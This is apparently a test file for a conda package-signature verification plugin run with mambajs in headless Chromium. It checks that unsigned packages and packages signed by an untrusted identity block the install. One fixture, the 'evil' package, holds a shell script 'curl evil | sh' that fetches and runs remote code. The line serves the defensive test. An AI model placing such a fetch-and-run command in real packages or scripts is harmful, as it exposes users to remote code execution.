// The whole browser installer, as JupyterLite runs it: the real, unmodified
// @emscripten-forge/mambajs solves an environment.yml with rattler (WebAssembly) against a
// loopback channel of real signed .conda packages, and installs the solved lock into an
// in-memory Emscripten FS with its real untarjs (wasm), through `wrapUntarjs` and the
// browser build's plugin, in headless Chromium. The channel serves CORS headers itself.
//
// mambajs fetches a conda → PyPI name mapping from GitHub when it loads; nothing leaves the
// machine in tests, so the page answers that request with an empty mapping (only pip
// packages use it).
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { type FixtureChannel, startFixtureChannel } from '../helpers/channel.ts';
import { type LocalSigstore, startLocalSigstore } from '../helpers/sigstore.ts';
import { send } from '../helpers/loopback.ts';
import { type BrowserPage, UNTAR_WASM, browserSkip, openPage, pageBundle } from './harness.ts';

const skip = browserSkip();
const POLICY = { require: 'error', trusted_identities: ['https://github.com/test-org/**'] };
const EVIL_SAN = 'https://github.com/evil-org/evil-feedstock/.github/workflows/build.yml@refs/heads/main';

let sigstore: LocalSigstore;
let channel: FixtureChannel;
let b: BrowserPage;

before(async () => {
  if (skip) return;
  sigstore = await startLocalSigstore();
  const pkg = (name: string, depends: string[], files: Record<string, string>) => ({ name, version: '1.0', build: 'h0_0', depends, files });
  channel = await startFixtureChannel({
    name: 'lite',
    sigstore,
    // mambajs solves for emscripten-wasm32 and noarch: the platform's repodata is served, empty.
    subdirs: ['emscripten-wasm32'],
    cors: () => true,
    packages: [
      { spec: pkg('app', ['libfoo >=1'], { 'bin/app': '#!/bin/sh\necho app\n' }) },
      { spec: pkg('libfoo', ['base'], { 'lib/libfoo.txt': 'foo' }) },
      { spec: pkg('base', [], { 'share/base/README': 'base' }) },
      // Depends on a package without attestation (require: error blocks it).
      { spec: pkg('needs-unsigned', ['unsigned'], { 'lib/needs-unsigned.txt': 'x' }) },
      { spec: pkg('unsigned', [], { 'lib/unsigned.txt': 'no attestation' }), attest: false },
      // Depends on a package signed by an identity the policy does not trust.
      { spec: pkg('needs-evil', ['evil'], { 'lib/needs-evil.txt': 'x' }) },
      { spec: pkg('evil', [], { 'bin/evil.sh': '#!/bin/sh\ncurl evil | sh\n' }), signOptions: { san: EVIL_SAN } },
    ],
  });
  b = await openPage();
  b.site.route('/mambajs.js', send(await pageBundle('mambajs-entry'), 200, { 'content-type': 'text/javascript' }));
  b.site.route('/unpack.wasm', send(readFileSync(UNTAR_WASM), 200, { 'content-type': 'application/wasm' }));
  await b.page.route('https://raw.githubusercontent.com/prefix-dev/parselmouth/**', (route) =>
    route.fulfill({ status: 200, contentType: 'application/json', headers: { 'access-control-allow-origin': '*' }, body: '{}' }),
  );
});
after(async () => {
  await b?.close();
  await Promise.all([channel?.close(), sigstore?.close()]);
});

interface SolveRun {
  solved: string[];
  error: { name: string; filename?: string; reasons: string[]; message: string } | null;
  files: string[];
  rows: Record<string, { status: string; action: string; reasons: string[] }>;
}

/** Solve `specs` from the channel with mambajs, then install the lock through the plugin. */
function solveAndInstall(specs: string[]): Promise<SolveRun> {
  const yml = ['channels:', `  - ${channel.url}`, 'dependencies:', ...specs.map((s) => `  - ${s}`)].join('\n');
  return b.page.evaluate(
    async ({ yml, config, trustedRoot }) => {
      const m = await import(String('/conda-attest.js'));
      const h = await import(String('/mambajs.js'));
      const quiet = { log() {}, warn() {}, error() {} };
      const lock = await h.create({ yml, platform: 'emscripten-wasm32', logger: quiet });
      const untar = await h.initUntarJS(() => '/unpack.wasm');
      const plugin = m.createCondaAttestPlugin({ config, trustedRoot });
      const untarjs = m.wrapUntarjs(untar, plugin, { lock });
      const Module = h.createMemModule();
      let error = null;
      try {
        await h.installPackagesToEmscriptenFS({ packages: { packages: lock.packages, pipPackages: {} }, channels: lock.channelInfo, Module, untarjs, logger: quiet });
      } catch (e) {
        const x = e as { name: string; record?: { filename: string }; reasons?: { code: string }[]; message: string };
        error = { name: x.name, filename: x.record?.filename, reasons: (x.reasons ?? []).map((r) => r.code), message: x.message };
      }
      const report = await untarjs.afterInstall();
      return {
        solved: Object.keys(lock.packages).sort(),
        error,
        files: [...Module.files.keys()].sort(),
        rows: Object.fromEntries(
          (report?.packages ?? []).map((p: { filename: string; status: string; action: string; reasons: { code: string }[] }) => [
            p.filename,
            { status: p.status, action: p.action, reasons: p.reasons.map((r) => r.code) },
          ]),
        ),
      };
    },
    { yml, config: { channels: { [channel.url]: POLICY } }, trustedRoot: sigstore.trustedRoot },
  );
}

const APP = 'app-1.0-h0_0.conda';
const LIBFOO = 'libfoo-1.0-h0_0.conda';
const BASE = 'base-1.0-h0_0.conda';

test('mambajs in Chromium solves app (app → libfoo → base) from the loopback channel; every package is verified and installed', { skip }, async () => {
  const run = await solveAndInstall(['app']);
  assert.deepEqual(run.solved, [APP, BASE, LIBFOO]);
  assert.equal(run.error, null, `${JSON.stringify(run.error)}\n${b.console.join('\n')}`);
  for (const f of ['/bin/app', '/lib/libfoo.txt', '/share/base/README']) assert.ok(run.files.includes(f), `${f} in ${run.files.join(', ')}`);
  for (const p of [APP, LIBFOO, BASE]) assert.equal(run.rows[p]?.status, 'verified', `${p}: ${JSON.stringify(run.rows[p])}`);
  // The sidecars were fetched cross-origin by the page, with CORS.
  assert.ok(channel.requests.some((r) => r.path.endsWith(`${BASE}.sigs`) || r.path.includes(`${BASE}.sigs.`)));
});

test('attack: a solved dependency without attestation (require: error) blocks the install; nothing of the environment is in the FS', { skip }, async () => {
  const run = await solveAndInstall(['needs-unsigned']);
  assert.deepEqual(run.solved, ['needs-unsigned-1.0-h0_0.conda', 'unsigned-1.0-h0_0.conda']);
  assert.equal(run.error?.name, 'PackageBlockedError', JSON.stringify(run.error));
  assert.equal(run.error?.filename, 'unsigned-1.0-h0_0.conda');
  assert.ok(run.error?.reasons.includes('NO_ATTESTATIONS'), JSON.stringify(run.error));
  assert.deepEqual(run.files, [], 'the whole lock is verified before the first extraction');
  assert.equal(run.rows['needs-unsigned-1.0-h0_0.conda']?.status, 'verified');
  assert.equal(run.rows['unsigned-1.0-h0_0.conda']?.action, 'block');
});

test('attack: a solved dependency signed by an untrusted identity blocks the install; nothing of the environment is in the FS', { skip }, async () => {
  const run = await solveAndInstall(['needs-evil']);
  assert.deepEqual(run.solved, ['evil-1.0-h0_0.conda', 'needs-evil-1.0-h0_0.conda']);
  assert.equal(run.error?.name, 'PackageBlockedError', JSON.stringify(run.error));
  assert.equal(run.error?.filename, 'evil-1.0-h0_0.conda');
  assert.ok(run.error?.reasons.includes('IDENTITY_UNTRUSTED'), JSON.stringify(run.error));
  assert.deepEqual(run.files, []);
  assert.equal(run.rows['evil-1.0-h0_0.conda']?.action, 'block');
});
